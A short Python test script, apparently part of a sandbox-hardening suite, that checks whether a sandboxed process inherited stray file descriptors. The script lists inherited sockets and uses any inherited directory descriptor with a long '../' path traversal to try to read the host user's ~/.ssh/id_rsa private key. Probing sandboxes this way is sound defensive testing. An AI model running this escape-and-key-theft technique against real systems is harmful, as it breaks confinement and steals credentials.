# name: find a descriptor that a subprocess inherited, and go out through it
# line: 50
import os
import stat

from attack import STAGE, refused, secret_at, through

FIRST, LAST = 3, 1023
# The shell's programs reach the session's own host tools by a socket.
TOOLS = os.environ.get("WINDLASS_TOOL_FD")
found = []
for descriptor in range(FIRST, LAST + 1):
    try:
        mode = os.fstat(descriptor).st_mode
    except OSError:
        continue
    found.append(descriptor)
    if str(descriptor) == TOOLS:
        continue
    if stat.S_ISSOCK(mode):
        through(f"descriptor {descriptor} is a socket: {os.readlink(f'/proc/self/fd/{descriptor}')}")
    if stat.S_ISDIR(mode):
        below = STAGE["home"].lstrip("/")
        try:
            through(f"directory {descriptor}: {secret_at('../' * 40 + below + '/.ssh/id_rsa', dir_fd=descriptor)}")
        except OSError:
            through(f"descriptor {descriptor} is a directory: {os.readlink(f'/proc/self/fd/{descriptor}')}")
refused(f"nothing inherited but {found}" if found else "nothing inherited")
